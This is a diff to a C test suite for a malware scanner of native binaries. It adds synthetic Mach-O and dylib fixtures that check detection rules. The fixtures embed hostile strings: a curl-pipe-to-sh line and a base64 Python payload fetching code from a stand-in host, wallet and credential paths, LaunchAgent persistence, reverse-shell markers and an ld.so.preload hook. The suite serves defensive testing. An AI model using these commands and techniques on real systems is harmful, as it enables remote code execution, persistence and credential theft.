@@ -56,7 +56,12 @@ pe_make(uint8_t image[IMAGE], const char *const *functions)
 	}
 }
 
-/* "+name" is one that the image has itself, "'text" a text in it. */
+/* "import urllib.request", then its answer executed; nothing answers there. */
+#define PROGRAM_64 "aW1wb3J0IHVybGxpYi5yZXF1ZXN0O2V4ZWModXJsbGliLnJlcXVlc3QudX" \
+    "Jsb3BlbigiaHR0cHM6Ly94LmV4YW1wbGUuaW52YWxpZC9wIikucmVhZCgpKQ=="
+
+/* "+name" is one that the image has itself, "'text" a text in it, "!text" one
+ * behind its headers. */
 static void
 macho_make(uint8_t image[IMAGE], const char *const *functions)
 {
@@ -77,22 +82,32 @@ macho_make(uint8_t image[IMAGE], const char *const *functions)
 	put(image, 112, 0x400, 4);
 	for (; *functions != NULL; functions++) {
 		const char *name = *functions;
-		bool own = *name == '+';
+		bool own = *name == '+', bare;
 
-		if (*name == '\'') {
-			memcpy(image + 0x600, name + 1, strlen(name + 1));
+		if (*name == '\'' || *name == '!') {
+			memcpy(image + (*name == '!' ? 0x300 : 0x600),
+			    name + 1, strlen(name + 1));
 			continue;
 		}
 		name += own;
 		put(image, at, text, 4);
 		image[at + 4] = own ? 0xf : 1;	/* defined or not, external */
+		bare = *name == '=';		/* as in ELF */
 		image[0x400 + text] = '_';
-		memcpy(image + 0x400 + text + 1, name, strlen(name));
+		memcpy(image + 0x400 + text + !bare, name + bare,
+		    strlen(name + bare));
 		text += strlen(name) + 2;
 		at += 16;
 		n++;
 	}
 	put(image, 108, n, 4);
+}
+
+static void
+dylib_make(uint8_t image[IMAGE], const char *const *functions)
+{
+	macho_make(image, functions);
+	put(image, 12, 6, 4);			/* what others load */
 }
 
 static void
@@ -132,7 +147,7 @@ reads_this_program(void **state)
 static const struct {
 	const char	*name;
 	void		(*make)(uint8_t [IMAGE], const char *const *);
-	const char	*functions[5];
+	const char	*functions[8];
 	const char	*rule;		/* NULL: none */
 } cases[] = {
 	{ "an ordinary program", pe_make, { "ReadFile", "CreateProcessW" },
@@ -168,6 +183,45 @@ static const struct {
 	    "native-module-strings" },
 	{ "a library with a command", macho_make, {
 	    "'curl -s https://x.example.invalid/i.sh | sh" }, NULL },
+	{ "a library that runs a command", dylib_make, { "system",
+	    "'curl -s https://x.example.invalid/i.sh | sh" },
+	    "native-module-fetches" },
+	{ "a module that plants an agent", macho_make, { "+PyInit_x", "fopen",
+	    "'/Library/LaunchAgents/x.plist <key>RunAtLoad</key>" },
+	    "native-module-plants" },
+	{ "a module that reads about agents", macho_make, { "+PyInit_x",
+	    "getpid", "'/Library/LaunchAgents/x.plist <key>RunAtLoad</key>" },
+	    NULL },
+	{ "a library that plants an agent", dylib_make, { "fopen",
+	    "'/Library/LaunchAgents/x.plist <key>RunAtLoad</key>" }, NULL },
+	{ "a module that steals", macho_make, { "+PyInit_x", "connect",
+	    "'/.electrum/wallets\n/.bitcoin/wallet.dat" },
+	    "native-module-steals" },
+	{ "a module that reads and sends nothing", macho_make, { "+PyInit_x",
+	    "'/.electrum/wallets\n/.bitcoin/wallet.dat" }, NULL },
+	{ "a client of one service", macho_make, { "+PyInit_x", "connect",
+	    "'/.aws/credentials\n/.kube/config\n/.docker/config.json" },
+	    NULL },
+	{ "a shell on a connection", macho_make, { "+PyInit_x", "socket",
+	    "connect", "dup2", "execve", "'/bin/sh\n203.0.113.7" },
+	    "native-module-shell" },
+	{ "a terminal at home", macho_make, { "+PyInit_x", "socket",
+	    "connect", "dup2", "execve", "'/bin/sh\n127.0.0.1\n1.2.3.4" },
+	    "native-module-acts" },
+	{ "a shell that nobody told where to", macho_make, { "+PyInit_x",
+	    "socket", "connect", "dup2", "execve", "'/bin/sh\n10.0.0.7" },
+	    "native-module-acts" },
+	{ "a module with an encoded program", macho_make, { "+PyInit_x",
+	    "'" PROGRAM_64 }, "native-module-hides" },
+	{ "a module with an encoded picture", macho_make, { "+PyInit_x",
+	    "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M"
+	    "9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" }, NULL },
+	{ "a library in everybody's stead", dylib_make, { "dlsym", "+=readdir",
+	    "'/etc/ld.so.preload" }, "native-preloads" },
+	{ "a library that knows of it", dylib_make, { "dlsym", "+x_check",
+	    "'/etc/ld.so.preload" }, NULL },
+	{ "a packed library", dylib_make, { "open", "!UPX!" },
+	    "native-packed" },
 	{ "a module with an address", macho_make, { "+PyInit_x",
 	    "'https://x.example.invalid/manual.html" }, NULL },
 	{ "an ordinary Mach-O", macho_make, { "open", "read", "execve" },
